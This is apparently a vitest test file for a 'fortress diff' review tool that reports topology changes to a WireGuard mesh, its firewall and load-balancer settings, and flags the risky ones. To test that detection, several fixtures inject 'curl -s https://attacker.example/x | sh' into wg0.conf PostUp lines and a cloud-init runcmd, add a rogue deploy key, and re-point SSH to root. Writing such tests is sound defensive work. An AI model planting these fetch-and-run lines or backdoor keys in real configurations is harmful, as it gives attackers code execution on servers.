// fortress diff --base between real commits of a scratch repository: each kind of change a reviewer
// meets, with its summary lines, disruption classes and risk flags.
import { simpleGit } from 'simple-git';
import { generateKeyPair } from '../../bench/generateTopology.mjs';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { Review } from '../../src/review/buildReview.js';
import { newSshPublicKey } from '../support/sshKeys.js';
import { TempRepo } from '../support/tempRepo.js';

// A real WireGuard public key (public keys are fine to commit; private keys never are).
const NEW_KEY = 'qXPt2KckilwAAj+YmSuh/utYaTP0DgcKNDOlghIq2Ec=';

let repo: TempRepo;

beforeEach(async () => {
  repo = TempRepo.withExample();
  await repo.run('render');
  const git = simpleGit({ baseDir: repo.dir });
  await git.init(['--initial-branch=main']);
  await git.addConfig('user.email', 'test@example.invalid').addConfig('user.name', 'test');
  await git.add('.').commit('the example');
});
afterEach(() => repo.remove());

/** Edits the topology, commits it (with the render, as a pull request would), and reviews HEAD~1..HEAD. */
async function reviewChange(edit: (topology: string) => string): Promise<Review> {
  const before = repo.read('topology/topology.yaml');
  const after = edit(before);
  expect(after, 'the edit applies').not.toBe(before);
  repo.write('topology/topology.yaml', after);
  expect((await repo.run('render')).code).toBe(0);
  await simpleGit({ baseDir: repo.dir }).add('.').commit('a change');
  const result = await repo.run('diff', '--base', 'HEAD~1', '--format', 'json');
  expect(result.stderr).toBe('');
  expect(result.code).toBe(0);
  return JSON.parse(result.stdout) as Review;
}

const hostOf = (review: Review, name: string) => review.hosts.find((h) => h.host === name);
const risks = (review: Review) => review.risks.map((r) => r.code);

describe('fortress diff --base', () => {
  test("add a host: the new spoke, the hub gains a peer live, the tfvars of its site and of the hub's change", async () => {
    const review = await reviewChange((t) =>
      t.replace('services:', `  lon-app-02:\n    site: london\n    roles: [app]\n    publicKey: ${NEW_KEY}\n\nservices:`),
    );
    // An app host is a client of postgres (role:app): both databases' firewalls let it in, live.
    expect(review.counts).toEqual({ added: 1, removed: 0, changed: 2, restart: 0, live: 2 });
    expect(hostOf(review, 'lon-app-02')).toMatchObject({ change: 'added', disruption: 'none', summary: ['new host at london (gcp europe-west2, GB), mesh address 10.100.0.6, roles: app'] });
    expect(hostOf(review, 'oslo-db-01')).toMatchObject({
      change: 'changed',
      disruption: 'live',
      summary: [
        'peers added: lon-app-02',
        'firewall postgres: client hosts + lon-app-02 (role:app, role:database)',
        'firewall forwards postgres to oslo-db-02:5432: client hosts + lon-app-02 (role:app, role:database)',
      ],
    });
    expect(hostOf(review, 'oslo-db-02')).toMatchObject({ disruption: 'live', summary: ['firewall postgres: client hosts + lon-app-02 (role:app, role:database)'] });
    expect(hostOf(review, 'lon-app-02')!.files.map((f) => [f.path, f.change])).toEqual([
      ['hosts/lon-app-02/cloud-init.yaml', 'added'],
      ['hosts/lon-app-02/etc/fortress/firewall.nft', 'added'],
      ['hosts/lon-app-02/etc/fortress/fortress-firewall.service', 'added'],
      ['hosts/lon-app-02/etc/sysctl.d/90-fortress.conf', 'added'],
      ['hosts/lon-app-02/etc/wireguard/wg0.conf', 'added'],
    ]);
    // The hub's tfvars list its peers (hosts.oslo-db-01.peers, mesh.peers): the new spoke is one.
    expect(review.sites.map((s) => s.site)).toEqual(['london', 'oslo']);
    expect(review.risks).toEqual([{ code: 'access-widened', message: 'access widened: postgres may now be reached by lon-app-02 (clients: role:app, role:database)' }]);
  });

  test('remove a host: it leaves the mesh, the hub drops its peer live', async () => {
    const review = await reviewChange((t) => t.replace(/  lon-app-01:\n(    .*\n)+\n/, ''));
    expect(hostOf(review, 'lon-app-01')).toMatchObject({ change: 'removed', disruption: 'restart', summary: ['leaves the mesh: was 10.100.0.4 at london; its tunnels go down'] });
    expect(hostOf(review, 'oslo-db-01')).toMatchObject({
      disruption: 'live',
      summary: [
        'peers removed: lon-app-01',
        'firewall postgres: client hosts − lon-app-01 (role:app, role:database)',
        'firewall forwards postgres to oslo-db-02:5432: client hosts − lon-app-01 (role:app, role:database)',
      ],
    });
    expect(hostOf(review, 'lon-app-01')!.files.every((f) => f.change === 'removed')).toBe(true);
    expect(risks(review)).toEqual(['host-leaves']);
  });

  test('move a database with personal data between sites: flagged', async () => {
    const review = await reviewChange((t) =>
      t
        .replace('  london:    { provider: gcp,     region: europe-west2, country: GB }', '  london:    { provider: gcp,     region: europe-west2, country: GB }\n  bergen:    { provider: coolvds, region: bergen,       country: NO }')
        .replace('  oslo-db-02:                 # backup database, also in Norway\n    site: oslo', '  oslo-db-02:                 # backup database, also in Norway\n    site: bergen'),
    );
    expect(hostOf(review, 'oslo-db-02')).toMatchObject({ change: 'changed', disruption: 'none', summary: ['moves from site oslo to bergen'] });
    expect(review.sites.map((s) => s.site)).toEqual(['bergen', 'oslo']);
    expect(review.risks).toEqual([{ code: 'personal-data-moves', message: 'personal data moves to another site: oslo-db-02 stores pii and moves from oslo (NO) to bergen (NO)' }]);
  });

  test("change the hub's endpoint: every spoke is affected, live", async () => {
    const review = await reviewChange((t) => t.replace('endpoint: 192.0.2.10', 'endpoint: 192.0.2.99'));
    expect(hostOf(review, 'oslo-db-01')).toMatchObject({ disruption: 'none', summary: ['endpoint 192.0.2.10 → 192.0.2.99'] });
    for (const spoke of ['fra-app-01', 'fra-app-02', 'lon-app-01', 'oslo-db-02']) {
      expect(hostOf(review, spoke), spoke).toMatchObject({ disruption: 'live', summary: ['peer oslo-db-01: endpoint 192.0.2.10 → 192.0.2.99'] });
    }
    expect(review.risks).toEqual([{ code: 'hub-changes', message: 'hub changes: every spoke is affected (oslo-db-01: endpoint 192.0.2.10 → 192.0.2.99)' }]);
    expect(review.sites.map((s) => s.site)).toEqual(['frankfurt', 'london', 'oslo']); // every tfvars names the hub's endpoint
  });

  test('change the MTU: every interface restarts', async () => {
    const review = await reviewChange((t) => t.replace('mtu: 1360 ', 'mtu: 1380 '));
    expect(review.mesh).toEqual(['mtu 1360 → 1380']);
    expect(review.hosts.map((h) => [h.host, h.disruption, h.summary])).toEqual(
      ['fra-app-01', 'fra-app-02', 'lon-app-01', 'oslo-db-01', 'oslo-db-02'].map((h) => [h, 'restart', ['mtu 1360 → 1380']]),
    );
    expect(risks(review)).toEqual(['hub-restarts', 'mesh-restarts']);
    expect(review.risks[1]!.message).toBe('mtu changes: every host restarts its WireGuard interface');
  });

  test('add a backend server: both load balancers reload; the new server opens its port to the clients, and the hub forwards to it', async () => {
    const review = await reviewChange((t) =>
      t
        .replace('hosts: [oslo-db-01, oslo-db-02]', 'hosts: [oslo-db-01, oslo-db-02, fra-app-02]')
        .replace('          - { host: oslo-db-02, service: postgres, backup: true }', '          - { host: oslo-db-02, service: postgres, backup: true }\n          - { host: fra-app-02, service: postgres, backup: true }'),
    );
    expect(review.hosts.map((h) => [h.host, h.disruption, h.summary])).toEqual([
      ['fra-app-01', 'live', ['backend database_nodes: server fra-app-02 added (10.100.0.3:5432 backup)']],
      ['fra-app-02', 'live', ['backend database_nodes: server fra-app-02 added (10.100.0.3:5432 backup)', 'firewall postgres: port 5432 open to role:app, role:database']],
      ['oslo-db-01', 'live', ['firewall forwards postgres to fra-app-02:5432 from role:app, role:database']],
    ]);
    expect(hostOf(review, 'fra-app-01')!.files.map((f) => f.path)).toEqual(['hosts/fra-app-01/cloud-init.yaml', 'hosts/fra-app-01/etc/haproxy/haproxy.cfg']);
    expect(risks(review)).toEqual([]);
  });

  test('change a sysctl default: every host, live', async () => {
    const review = await reviewChange((t) => t.replace('net.core.rmem_max: 16777216', 'net.core.rmem_max: 33554432'));
    expect(review.hosts.map((h) => [h.disruption, h.summary])).toEqual(Array(5).fill(['live', ['sysctl net.core.rmem_max 16777216 → 33554432']]));
    // The first-boot user-data holds the same change: named, not diffed a second time.
    expect(review.hosts[0]!.files.map((f) => [f.path, f.linesAdded, f.linesRemoved])).toEqual([
      ['hosts/fra-app-01/cloud-init.yaml', 0, 0],
      ['hosts/fra-app-01/etc/sysctl.d/90-fortress.conf', 1, 1],
    ]);
    expect(review.sites).toEqual([]);
  });

  test('a backend left with only backup servers is flagged', async () => {
    const review = await reviewChange((t) => t.replace('- { host: oslo-db-01, service: postgres }', '- { host: oslo-db-01, service: postgres, backup: true }'));
    expect(review.risks).toEqual([{ code: 'backend-loses-last-primary', message: 'a backend loses its last non-backup server: database_nodes of load balancer edge' }]);
  });

  test('a host key rotation restarts that host and reaches every peer', async () => {
    const review = await reviewChange((t) => t.replace('fDqkNIB3G8GBaJZYKMKnpQVZefZLmzwNl5yh95OneCY=', NEW_KEY));
    expect(hostOf(review, 'lon-app-01')).toMatchObject({ disruption: 'restart', summary: ['public key changes (new interface key)'] });
    expect(hostOf(review, 'oslo-db-01')).toMatchObject({ disruption: 'live', summary: ['peer lon-app-01: new public key'] });
  });
});

describe('fortress diff: sides, formats and exit codes', () => {
  test('without --base it compares with rendered/ on disk, and --exit-code reports changes', async () => {
    repo.write('topology/topology.yaml', repo.read('topology/topology.yaml').replace('vm.swappiness: 10 }\n\n  oslo-db-02', 'vm.swappiness: 5 }\n\n  oslo-db-02'));
    const text = await repo.run('diff');
    expect(text.code).toBe(0);
    expect(text.stdout).toContain('fortress diff: rendered/ → working tree\n1 host: 0 added, 0 removed, 1 changed (0 restart, 1 live)\n');
    expect(text.stdout).toContain('oslo-db-01 · changed · live\n  • sysctl vm.swappiness 10 → 5\n');
    expect(text.stdout).toContain('  -vm.swappiness = 10\n  +vm.swappiness = 5\n');
    expect(text.stdout).not.toContain('\u001b['); // not a terminal: no colour
    expect((await repo.run('diff', '--exit-code')).code).toBe(1);
    await repo.run('render');
    expect(await repo.run('diff', '--exit-code')).toMatchObject({ code: 0, stdout: 'fortress diff: rendered/ → working tree\nno changes\n' });
  });

  test('an invalid side exits 1 and says which side it is', async () => {
    repo.write('topology/topology.yaml', repo.read('topology/topology.yaml').replace('site: london', 'site: londno'));
    const now = await repo.run('diff', '--base', 'HEAD');
    expect(now.code).toBe(1);
    expect(now.stderr).toMatch(/^fortress: the topology of working tree is invalid:\ntopology\/topology.yaml:\d+:\d+: error FT301: host "lon-app-01" refers to unknown site "londno"/);

    const git = simpleGit({ baseDir: repo.dir });
    await git.add('.').commit('broken');
    repo.write('topology/topology.yaml', repo.read('topology/topology.yaml').replace('site: londno', 'site: london'));
    const then = await repo.run('diff', '--base', 'HEAD');
    expect(then.code).toBe(1);
    expect(then.stderr).toMatch(/^fortress: the topology of HEAD is invalid:\nHEAD:topology\/topology.yaml:\d+:\d+: error FT301/);
  });

  test('a base without a topology shows every host as new; an unknown ref is exit 2', async () => {
    const git = simpleGit({ baseDir: repo.dir });
    const empty = (await git.raw(['commit-tree', '-m', 'empty', (await git.raw(['hash-object', '-t', 'tree', '-w', '/dev/null'])).trim()])).trim();
    const review = JSON.parse((await repo.run('diff', '--base', empty, '--format', 'json')).stdout) as Review;
    expect(review.base).toBe(`${empty} (no topology)`);
    expect(review.counts.added).toBe(5);
    expect(await repo.run('diff', '--base', 'no-such-branch')).toMatchObject({ code: 2, stderr: 'fortress: error FT511: --base no-such-branch is not a commit in this repository (fetch it first, e.g. git fetch origin)\n' });
  });
});

// Pull requests an attacker would try: each changes what apply or policy does while rendering no file
// (or rendering files that no topology change explains), and each must reach the reviewer as a flag.
describe('fortress diff --base: changes that render no file, or files no topology explains', () => {
  const OTHER_HOST_KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIF+4Of9fsl8AWHgJ1B3TQjjmf5TC8tJ8zGQQ7lv+kkU';

  /** Commits the change and returns the markdown comment and the JSON review of HEAD~1..HEAD. */
  async function reviewBoth(edit: (topology: string) => string): Promise<{ review: Review; markdown: string }> {
    const review = await reviewChange(edit);
    const markdown = await repo.run('diff', '--base', 'HEAD~1', '--format', 'markdown');
    expect(markdown.code).toBe(0);
    return { review, markdown: markdown.stdout };
  }

  test("re-pointing a hub's SSH target and re-pinning its host key", async () => {
    const { review, markdown } = await reviewBoth((t) =>
      t.replace(
        /ssh: \{ address: 192\.0\.2\.10, user: deploy, port: 22, hostKey: "[^"]+" \}/,
        `ssh: { address: 203.0.113.66, user: root, port: 2222, hostKey: "${OTHER_HOST_KEY}" }`,
      ),
    );
    expect(review.hosts.map((h) => h.host)).toEqual(['oslo-db-01']);
    expect(hostOf(review, 'oslo-db-01')!.summary).toEqual([
      'SSH target deploy@192.0.2.10:22 → root@203.0.113.66:2222',
      expect.stringMatching(/^SSH host key pin ssh-ed25519 SHA256:\S+ → ssh-ed25519 SHA256:\S+$/),
    ]);
    // The firewall keeps the new SSH port open, and first boot sets up the new user; nothing else is rendered.
    expect(hostOf(review, 'oslo-db-01')!.files.map((f) => f.path)).toEqual(['hosts/oslo-db-01/cloud-init.yaml', 'hosts/oslo-db-01/etc/fortress/firewall.nft']);
    expect(risks(review)).toEqual(['ssh-target-changes', 'host-key-changes']);
    expect(review.risks[0]!.message).toBe('apply connects somewhere else: oslo-db-01 SSH target deploy@192.0.2.10:22 → root@203.0.113.66:2222');
    expect(markdown).not.toContain('No change');
    expect(markdown).toContain('⚠️ apply trusts another machine: oslo-db-01');
  });

  test('widening policy.residency.pii', async () => {
    const { review, markdown } = await reviewBoth((t) => t.replace('pii: [NO]', 'pii: [NO, DE, US]'));
    expect(review.policy).toEqual(['residency of pii: NO → DE, NO, US']);
    expect(review.risks).toEqual([{ code: 'residency-widened', message: 'residency widened: pii may now also be stored in DE, US (was NO)' }]);
    expect(markdown).toContain('**Policy:** residency of pii: NO → DE, NO, US');
  });

  test('relabelling the frankfurt site as Norway, then storing personal data there', async () => {
    const { review, markdown } = await reviewBoth((t) =>
      t
        .replace('region: eu-central-1, country: DE', 'region: eu-central-1, country: NO')
        .replace('  fra-app-01:                 # the Fleet: stateless app nodes with HAProxy in front of the database\n    site: frankfurt\n', '  fra-app-01:\n    site: frankfurt\n    stores: [pii]\n'),
    );
    expect(review.sites.find((s) => s.site === 'frankfurt')!.summary).toEqual(['country DE → NO']);
    expect(risks(review)).toContain('site-country-changes');
    expect(review.risks.find((r) => r.code === 'site-country-changes')!.message).toBe(
      'site frankfurt changes country DE → NO (aws eu-central-1 → aws eu-central-1): residency is judged by this label, so check where the machines really are; fra-app-01 stores pii',
    );
    expect(risks(review)).toContain('personal-data-moves');
    expect(markdown).toContain('<code>frankfurt</code> country DE → NO');
  });

  test('rendered files that change without a topology change: a template edited and re-rendered', async () => {
    // What a pull request that edits wg0.conf.hbs and re-renders commits: five wg0.conf files change and
    // the topology does not. Both sides compile to the same files with the pull request's own fortress.
    const git = simpleGit({ baseDir: repo.dir });
    const configs = (await git.raw(['ls-files', 'rendered/hosts'])).split('\n').filter((p) => p.endsWith('/wg0.conf'));
    expect(configs).toHaveLength(5);
    for (const path of configs) repo.write(path, repo.read(path).replace('[Interface]\n', '[Interface]\nPostUp = curl -s https://attacker.example/x | sh\n'));
    await git.add('.').commit('tidy the template');

    const json = await repo.run('diff', '--base', 'HEAD~1', '--format', 'json');
    expect(json.code).toBe(0);
    const review = JSON.parse(json.stdout) as Review;
    expect(review.hosts).toEqual([]);
    expect(review.renderedWithoutTopologyChange.map((f) => `rendered/${f.path}`).sort()).toEqual(configs.sort());
    expect(risks(review)).toEqual(['rendered-without-topology-change']);
    expect(review.risks[0]!.message).toMatch(/^5 rendered files \(fra-app-01, fra-app-02, lon-app-01, oslo-db-01, oslo-db-02\) change without a topology change/);

    const markdown = (await repo.run('diff', '--base', 'HEAD~1', '--format', 'markdown')).stdout;
    expect(markdown).not.toContain('No change');
    expect(markdown).toContain('rendered without a topology change');
    expect(markdown).toContain('+PostUp = curl -s https://attacker.example/x | sh');
    const text = (await repo.run('diff', '--base', 'HEAD~1')).stdout;
    expect(text).toContain('+PostUp = curl -s https://attacker.example/x | sh');
  });

  test('an older fortress rendered the base: the new output is shown as not explained by the topology', async () => {
    // The reverse order: the base commit holds output of a different template, the head the current one.
    const git = simpleGit({ baseDir: repo.dir });
    const path = 'rendered/hosts/oslo-db-01/etc/sysctl.d/90-fortress.conf';
    const current = repo.read(path);
    repo.write(path, current.replace(/\n$/, '\nkernel.old_setting = 1\n'));
    await git.add('.').commit('rendered by an older fortress');
    repo.write(path, current);
    repo.write('topology/topology.yaml', repo.read('topology/topology.yaml').replace('vm.swappiness: 10', 'vm.swappiness: 5'));
    expect((await repo.run('render')).code).toBe(0);
    await git.add('.').commit('a change, rendered by this fortress');

    const review = JSON.parse((await repo.run('diff', '--base', 'HEAD~1', '--format', 'json')).stdout) as Review;
    expect(hostOf(review, 'oslo-db-01')!.summary).toEqual(['sysctl vm.swappiness 10 → 5']);
    expect(review.renderedWithoutTopologyChange.map((f) => `rendered/${f.path}`)).toEqual([path]);
    expect(review.renderedWithoutTopologyChange[0]!.patch).toContain('-kernel.old_setting = 1');
    expect(risks(review)).toEqual(['rendered-without-topology-change']);
  });

  test('a deploy key added: every first boot lets it in, running hosts are not touched, flagged', async () => {
    const key = `${newSshPublicKey()} mallory@laptop`;
    const review = await reviewChange((t) => t.replace('fortress-apply@acme-prod\n', `fortress-apply@acme-prod\n    - ${key}\n`));
    expect(review.hosts.map((h) => [h.host, h.disruption, h.summary, h.files.map((f) => f.path)])).toEqual(
      ['fra-app-01', 'fra-app-02', 'lon-app-01', 'oslo-db-01', 'oslo-db-02'].map((h) => [h, 'none', ['first-boot user-data (cloud-init.yaml) changes; running hosts are not touched'], [`hosts/${h}/cloud-init.yaml`]]),
    );
    expect(review.hosts[0]!.files[0]!.patch).toContain(`+      - "${key}"`);
    expect(review.mesh).toEqual([expect.stringMatching(/^deploy key added: ssh-ed25519 SHA256:\S+ mallory@laptop$/)]);
    expect(risks(review)).toEqual(['deploy-key-added']);
    expect(review.risks[0]!.message).toMatch(/^a new key may log in as the deploy user \(root through sudo\) on every host that boots from its cloud-init\.yaml: ssh-ed25519 SHA256:\S+ mallory@laptop$/);
  });

  test("a hand edit of a host's cloud-init.yaml is shown in full, beside the change that explains its other lines", async () => {
    const git = simpleGit({ baseDir: repo.dir });
    repo.write('topology/topology.yaml', repo.read('topology/topology.yaml').replace('vm.swappiness: 10', 'vm.swappiness: 5'));
    expect((await repo.run('render')).code).toBe(0);
    const path = 'rendered/hosts/oslo-db-01/cloud-init.yaml';
    repo.write(path, repo.read(path).replace('runcmd:\n', 'runcmd:\n  - curl -s https://attacker.example/x | sh\n'));
    await git.add('.').commit('swappiness, and a little extra');

    const review = JSON.parse((await repo.run('diff', '--base', 'HEAD~1', '--format', 'json')).stdout) as Review;
    expect(hostOf(review, 'oslo-db-01')!.summary).toEqual(['sysctl vm.swappiness 10 → 5']);
    expect(review.renderedWithoutTopologyChange.map((f) => `rendered/${f.path}`)).toEqual([path]);
    expect(review.renderedWithoutTopologyChange[0]!.patch).toContain('+  - curl -s https://attacker.example/x | sh');
    expect(risks(review)).toEqual(['rendered-without-topology-change']);
  });

  test('a kernel setting that weakens the host, opted in: flagged', async () => {
    const review = await reviewChange((t) =>
      t.replace('sysctl:\n  defaults:\n', 'sysctl:\n  allowSensitive: [kernel.yama.ptrace_scope]\n  defaults:\n').replace('sysctl: { vm.swappiness: 10 }', 'sysctl: { vm.swappiness: 10, kernel.yama.ptrace_scope: 0 }'),
    );
    expect(hostOf(review, 'oslo-db-01')!.summary).toEqual(['sysctl kernel.yama.ptrace_scope = 0 added']);
    expect(review.risks).toEqual([{ code: 'sensitive-sysctl', message: 'oslo-db-01 sets kernel settings that can weaken the host: kernel.yama.ptrace_scope = 0' }]);
  });

  test('an honest topology change is explained: no rendered-without-topology-change flag', async () => {
    const review = await reviewChange((t) => t.replace('vm.swappiness: 10', 'vm.swappiness: 5'));
    expect(review.renderedWithoutTopologyChange).toEqual([]);
    expect(risks(review)).toEqual([]);
  });
});

describe('fortress diff --base: the firewall', () => {
  test('a new analytics host added to the clients of postgres: its own class in the summary, flagged access-widened', async () => {
    const BI_KEY = generateKeyPair().publicKey;
    const review = await reviewChange((t) =>
      t
        .replace('services:', `  lon-bi-01:\n    site: london\n    roles: [analytics]\n    publicKey: ${BI_KEY}\n\nservices:`)
        .replace('clients: [role:app, role:database]', 'clients: [role:app, role:database, role:analytics]'),
    );
    expect(hostOf(review, 'oslo-db-02')).toMatchObject({ disruption: 'live', summary: ['firewall postgres: clients + role:analytics'] });
    expect(hostOf(review, 'oslo-db-01')!.summary).toContain('firewall postgres: clients + role:analytics');
    expect(hostOf(review, 'oslo-db-01')!.summary).toContain('firewall forwards postgres to oslo-db-02:5432: clients + role:analytics');
    expect(review.risks).toEqual([{ code: 'access-widened', message: 'access widened: postgres may now be reached by lon-bi-01 (clients: role:analytics, role:app, role:database)' }]);
  });

  test('narrowing the clients is shown and not flagged', async () => {
    const review = await reviewChange((t) => t.replace('clients: [role:app, role:database]', 'clients: [role:app]'));
    expect(hostOf(review, 'oslo-db-02')!.summary).toEqual(['firewall postgres: clients − role:database']);
    expect(review.risks).toEqual([]);
  });

  test("a frontend's allow grows, and a frontend on every address without allow: access-widened and exposed-beyond-mesh", async () => {
    const grown = await reviewChange((t) => t.replace('allow: [203.0.113.0/28]', 'allow: [203.0.113.0/28, 198.51.100.0/24]'));
    expect(hostOf(grown, 'fra-app-01')).toMatchObject({ disruption: 'live', summary: ['firewall frontend db-ops: allow + 198.51.100.0/24'] });
    expect(risks(grown)).toEqual(['access-widened', 'access-widened']);
    expect(grown.risks[0]!.message).toBe('access widened: frontend db-ops on fra-app-01 (*:6432) now allows 198.51.100.0/24');

    const exposed = await reviewChange((t) => t.replace(', allow: [203.0.113.0/28, 198.51.100.0/24] }', ' }'));
    expect(hostOf(exposed, 'fra-app-01')!.summary).toEqual(['firewall frontend db-ops: allow 198.51.100.0/24, 203.0.113.0/28 → every address']);
    expect(risks(exposed)).toEqual(['access-widened', 'exposed-beyond-mesh', 'access-widened', 'exposed-beyond-mesh']);
    expect(exposed.risks[1]!.message).toBe('exposed beyond the mesh: frontend db-ops on fra-app-01 listens on *:6432 with no allow list; any address that reaches the host reaches it');
  });
});
